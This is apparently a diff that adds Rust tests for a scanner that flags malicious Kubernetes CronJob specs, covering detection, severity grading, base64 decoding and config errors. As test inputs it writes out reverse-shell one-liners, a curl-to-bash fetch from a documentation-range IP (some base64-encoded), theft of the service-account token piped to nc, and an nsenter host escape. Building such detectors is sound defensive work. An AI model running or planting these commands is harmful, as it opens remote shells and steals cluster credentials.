@@ -1,0 +1,256 @@
+//! Tests of the engine, and of the data through its examples.
+
+use serde_json::json;
+
+use super::*;
+
+fn cronjob(pod: &Value) -> Value {
+    json!({"metadata": {"name": "x"}, "spec": {"schedule": "0 2 * * *", "jobTemplate": {"spec": {"template": {"spec": pod}}}}})
+}
+
+fn examine(pod: &Value) -> Vec<Finding> {
+    Catalogue::builtin().examine(&cronjob(pod), &Context::default())
+}
+
+fn of(id: &str, pod: &Value) -> Vec<Finding> {
+    examine(pod).into_iter().filter(|finding| finding.id == id).collect()
+}
+
+fn severity(id: &str, pod: &Value) -> Option<Severity> {
+    of(id, pod).first().map(|finding| finding.severity)
+}
+
+fn args(args: &[&str]) -> Value {
+    json!({"containers": [{"name": "c", "image": "acme.example/a:1", "args": args}]})
+}
+
+#[test]
+fn the_builtin_file_is_read() {
+    let catalogue = Catalogue::default().with_file("builtin", include_str!("../../indicators.yml")).unwrap();
+    assert_eq!(catalogue.iter().count(), 81);
+    assert_eq!(catalogue.composites().count(), 5);
+    assert_eq!(Catalogue::builtin().iter().count(), 81);
+}
+
+#[test]
+fn every_example_holds() {
+    let broken = Catalogue::builtin().broken_examples();
+    assert!(broken.is_empty(), "{}", broken.join("\n"));
+}
+
+#[test]
+fn every_entry_has_examples_and_only_behaviour_has_those_of_requests() {
+    let catalogue = Catalogue::builtin();
+    let mut of_requests = Vec::new();
+    for indicator in catalogue.iter() {
+        assert!(!indicator.positive.is_empty() && !indicator.negative.is_empty(), "{}", indicator.id);
+        let is_events = |example: &Example| matches!(example, Example::Events(_));
+        if indicator.positive.iter().chain(&indicator.negative).any(is_events) {
+            assert!(indicator.positive.iter().any(is_events) && indicator.negative.iter().any(is_events));
+            assert!(indicator.test.function.is_some_and(|function| matches!(function, Function::History(_))));
+            of_requests.push(indicator.id.trim_start_matches("CJ-BEH-"));
+        }
+    }
+    let expected = ["03", "04", "08", "09", "10", "12", "13", "14", "15", "16", "17", "18", "19"];
+    assert_eq!(of_requests, expected);
+    for composite in catalogue.composites() {
+        assert!(!composite.positive.is_empty() && !composite.negative.is_empty(), "{}", composite.id);
+    }
+}
+
+#[test]
+fn a_finding_names_the_string_it_starts_in() {
+    let pod = json!({"containers": [{"name": "a"}], "initContainers": [{"name": "i", "command": ["sh", "-c"],
+        "args": ["echo", "nc -e /bin/sh 198.51.100.9 4444"]}]});
+    let found = of("CJ-CMD-05", &pod);
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].place, "spec.jobTemplate.spec.template.spec.initContainers[0].args[1]");
+    assert_eq!(found[0].text, "nc -e");
+    let json = serde_json::to_value(&found[0]).unwrap();
+    let keys: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
+    assert_eq!(keys, ["id", "name", "severity", "category", "where", "match"]);
+    let split = of("CJ-CMD-27", &args(&["-x", "/tmp/kdev"]));
+    assert_eq!(split[0].place, "spec.jobTemplate.spec.template.spec.containers[0].args[1]");
+}
+
+#[test]
+fn base64_is_decoded_twice() {
+    let encode = |text: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
+    let once = encode(b"curl -fsSL http://203.0.113.7/x.sh | bash # padding padding padding");
+    let twice = encode(once.as_bytes());
+    let thrice = encode(twice.as_bytes());
+    let utf16: Vec<u8> = "curl http://203.0.113.7/x.sh | bash".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let wrapped: Vec<&str> = once.as_bytes().chunks(24).map(|line| std::str::from_utf8(line).unwrap()).collect();
+    let wrapped = format!("cat <<EOF | base64 -d > /x\n{}\nEOF", wrapped.join("\n"));
+    let found = |text: &str| of("CJ-CMD-01", &args(&["x", text]));
+    for text in [&once, &twice, &encode(&utf16), &wrapped, &once.replace('=', "")] {
+        let found = found(text);
+        assert_eq!(found.len(), 1, "{text}");
+        assert!(found[0].decoded);
+        assert_eq!(found[0].place, "spec.jobTemplate.spec.template.spec.containers[0].args[1] (base64-decoded)");
+    }
+    assert!(found(&thrice).is_empty());
+    let object = cronjob(&json!({"containers": [{"env": [{"name": "P", "value": once}]}]}));
+    let decoded = decoded(&object);
+    assert_eq!(decoded[0].0, "spec.jobTemplate.spec.template.spec.containers[0].env[0].value (base64-decoded)");
+    assert!(decoded[0].1.starts_with("curl -fsSL"));
+}
+
+#[test]
+fn severities_depend_on_the_match() {
+    for (id, text, expected) in [
+        ("CJ-CMD-04", "timeout 1 bash -c '</dev/tcp/db/5432'", Severity::Medium),
+        ("CJ-CMD-04", "bash -c 'cat < /dev/null > /dev/tcp/db/5432 2>&1'", Severity::Medium),
+        ("CJ-CMD-04", "bash -i >& /dev/tcp/198.51.100.9/443 0>&1", Severity::Critical),
+        ("CJ-CMD-04", "exec 5<>/dev/tcp/1.2.3.4/9; sh <&5 >&5 2>&5", Severity::Critical),
+        ("CJ-CMD-04", "exec 5<>/dev/tcp/a/9;cat <&5 | while read line; do $line 2>&5 >&5; done", Severity::Critical),
+        ("CJ-CMD-30", "apk add --no-cache curl", Severity::Low),
+        ("CJ-CMD-30", "apt-get install -y wget cron;service cron start", Severity::Medium),
+        ("CJ-CMD-12", "cat /run/secrets/kubernetes.io/serviceaccount/token", Severity::Medium),
+        ("CJ-CMD-12", "cat /run/secrets/kubernetes.io/serviceaccount/token | nc 1.2.3.4 9", Severity::Critical),
+    ] {
+        assert_eq!(severity(id, &args(&[text])), Some(expected), "{text}");
+    }
+    let host = |path: &str| json!({"volumes": [{"hostPath": {"path": path}}]});
+    assert_eq!(severity("CJ-PRV-05", &host("/")), Some(Severity::Critical));
+    assert_eq!(severity("CJ-PRV-05", &host("/etc")), Some(Severity::High));
+    assert_eq!(severity("CJ-PRV-12", &json!({"tolerations": [{"operator": "Exists"}]})), Some(Severity::Medium));
+    assert_eq!(severity("CJ-PRV-02", &json!({"hostPID": true})), Some(Severity::High));
+    let enters = json!({"hostPID": true, "containers": [{"args": ["nsenter -t 1 -m sh"]}]});
+    assert_eq!(severity("CJ-PRV-02", &enters), Some(Severity::Critical));
+}
+
+#[test]
+fn names_and_history_are_graded() {
+    let catalogue = Catalogue::builtin();
+    let severity = |id: &str, object: &Value| {
+        let found = catalogue.examine(object, &Context::default());
+        found.iter().find(|finding| finding.id == id).map(|finding| finding.severity)
+    };
+    assert_eq!(severity("CJ-BEH-06", &json!({"metadata": {"name": "art"}})), Some(Severity::Low));
+    assert_eq!(severity("CJ-BEH-06", &json!({"metadata": {"name": "kamikaze"}})), Some(Severity::High));
+    assert_eq!(severity("CJ-BEH-07", &json!({"spec": {"failedJobsHistoryLimit": 0}})), Some(Severity::Low));
+    let both = json!({"spec": {"failedJobsHistoryLimit": 0, "successfulJobsHistoryLimit": 0}});
+    assert_eq!(severity("CJ-BEH-07", &both), Some(Severity::Medium));
+    assert!(catalogue.matches_text("CJ-BEH-01", "system:anonymous"));
+    assert!(!catalogue.matches_text("CJ-BEH-01", "anonymous"));
+}
+
+#[test]
+fn the_gravest_match_of_a_container_counts() {
+    let decoy = json!({"containers": [{"command": ["</dev/tcp/db/5432"],
+        "lifecycle": {"preStop": {"exec": {"command": ["bash -i >& /dev/tcp/198.51.100.9/443 0>&1"]}}}}]});
+    let found = of("CJ-CMD-04", &decoy);
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].severity, Severity::Critical);
+    assert!(found[0].place.ends_with("containers[0].lifecycle.preStop.exec.command[0]"), "{}", found[0].place);
+}
+
+#[test]
+fn levels_follow_the_runbook() {
+    let catalogue = Catalogue::builtin();
+    let level = |ids: &[&str]| {
+        let finding = |id: &&str| {
+            let indicator = catalogue.get(id).unwrap();
+            indicator.finding(String::new(), "", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")
+        };
+        catalogue.level(&ids.iter().map(finding).collect::<Vec<_>>())
+    };
+    assert_eq!(level(&[]), Level::S0);
+    assert_eq!(level(&["CJ-IMG-04"]), Level::S0);
+    assert_eq!(level(&["CJ-IMG-03"]), Level::S1);
+    assert_eq!(level(&["CJ-PRV-01"]), Level::S2);
+    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-01", "CJ-PRV-01"]), Level::S2);
+    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-02"]), Level::S2);
+    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-02", "CJ-PRV-07"]), Level::S3);
+    assert_eq!(level(&["CJ-PRV-01", "CJ-CMD-01"]), Level::S3);
+    assert_eq!(level(&["CJ-CMD-04"]), Level::S3);
+    assert_eq!(level(&["CJ-CMD-09", "CJ-CMD-13", "CJ-CMD-27"]), Level::S1);
+    assert_eq!(level(&["CJ-CMD-09", "CJ-CMD-13", "CJ-PRV-03"]), Level::S2);
+    assert_eq!(level(&["CJ-BEH-01", "CJ-BEH-04"]), Level::S0);
+    assert_eq!(level(&["CJ-BEH-06"]), Level::S2);
+}
+
+#[test]
+fn files_add_change_and_switch_off() {
+    let text = "indicators:\n- {id: CJ-CMD-30, severity: info}\n- {id: CJ-IMG-04, enabled: false}\n\
+        - {id: ACME-01, name: a, category: command, severity: high, at: [command, 'pod.nodeSelector[\"a.b/c\"]'], re: acme}\n";
+    let catalogue = Catalogue::builtin().with_file("own.yml", text).unwrap();
+    assert_eq!(catalogue.iter().count(), 82);
+    let pod = json!({"nodeSelector": {"a.b/c": "acme"}, "containers": [{"image": "a/b:1", "args": ["apk add acme"]}]});
+    let found = catalogue.examine(&cronjob(&pod), &Context::default());
+    let ids: Vec<&str> = found.iter().map(|finding| finding.id.as_str()).collect();
+    assert_eq!(ids, ["ACME-01", "ACME-01", "CJ-IMG-02", "CJ-CMD-30"]);
+    assert_eq!(found[1].place, "spec.jobTemplate.spec.template.spec.nodeSelector[\"a.b/c\"]");
+    assert!(catalogue.broken_examples().iter().all(|broken| broken.starts_with("CJ-IMG-04 ")));
+}
+
+#[test]
+fn errors_name_file_line_and_what_is_near() {
+    let own = |rest: &str| {
+        format!("indicators:\n- id: A\n  name: a\n  category: command\n  severity: low\n  at: command\n{rest}")
+    };
+    for (text, expected) in [
+        ("indicatrs: []\n".to_owned(), "own.yml:1: unknown key indicatrs; did you mean indicators?"),
+        (own("  re: x\n  severty: low\n"), "own.yml:8: unknown key severty; did you mean severity?"),
+        (own("  re: '('\n"), "own.yml:7: no regular expression: unclosed group"),
+        (own(""), "own.yml:2: A needs what to look for: re, equals, exists or fn"),
+        (own("  fn: big_computer\n"), "own.yml:7: unknown function big_computer; did you mean big_compute?"),
+        (
+            "indicators:\n- {id: CJ-CMD-01, at: comand}\n".to_owned(),
+            "own.yml:2: unknown place comand; did you mean command?",
+        ),
+        (
+            "indicators:\n- {id: CJ-CMD-01, at: pods.x}\n".to_owned(),
+            "own.yml:2: unknown place pods.x; did you mean pod?",
+        ),
+        (
+            "indicators:\n- {id: CJ-CMD-01, category: comand}\n".to_owned(),
+            "own.yml:2: unknown category comand; did you mean command?",
+        ),
+        (
+            "composites:\n- {id: X, name: x, all: [CJ-SHC-01]}\n".to_owned(),
+            "own.yml:2: unknown indicator CJ-SHC-01; did you mean CJ-SCH-01?",
+        ),
+        ("indicators:\n- {name: x}\n".to_owned(), "own.yml:2: an entry needs an id"),
+        ("indicators:\n- {id: B}\n".to_owned(), "own.yml:2: B needs a name"),
+    ] {
+        let error = Catalogue::builtin().with_file("own.yml", &text).unwrap_err().to_string();
+        assert_eq!(error, expected, "{text}");
+    }
+}
+
+#[test]
+fn odd_objects_are_no_trouble() {
+    let catalogue = Catalogue::builtin();
+    let odd =
+        [json!(null), json!(1), json!("x"), json!([]), json!({}), json!([[1]]), json!({"a": null}), json!(-1.5e300)];
+    let keys = ["containers", "initContainers", "volumes", "tolerations", "nodeSelector", "affinity", "nodeName"];
+    let of_container = ["command", "args", "env", "image", "name", "resources", "lifecycle", "securityContext"];
+    for value in &odd {
+        let _ = catalogue.examine(value, &Context::default());
+        let _ = catalogue.examine(&json!({"spec": value, "metadata": value}), &Context::default());
+        let _ = catalogue.examine(&json!({"spec": {"jobTemplate": value, "schedule": value}}), &Context::default());
+        for key in keys {
+            let _ = catalogue.examine(&cronjob(&json!({key: value})), &Context::default());
+            let _ = catalogue.examine(&cronjob(&json!({key: [value]})), &Context::default());
+        }
+        for key in of_container {
+            let _ = catalogue
+                .examine(&cronjob(&json!({"containers": [{key: value}, {key: [value]}]})), &Context::default());
+        }
+    }
+}
+
+#[test]
+fn huge_texts_are_bounded() {
+    let catalogue = Catalogue::builtin();
+    let huge = format!("x{}", "é".repeat(1 << 20));
+    let found = catalogue.examine(&cronjob(&args(&[&huge, "curl http://x/y | sh"])), &Context::default());
+    assert!(found.iter().all(|finding| finding.id != "CJ-CMD-01"));
+    let exempt = "LD_PRELOAD=/usr/lib/libjemalloc.so ".repeat(200);
+    assert!(of("CJ-CMD-19", &args(&[&exempt])).is_empty());
+    assert_eq!(of("CJ-CMD-19", &args(&[&exempt, &exempt])).len(), 1);
+    let long = of("CJ-CMD-28", &args(&[&"A".repeat(1 << 20)]));
+    assert_eq!(long[0].text.len(), 200);
+}
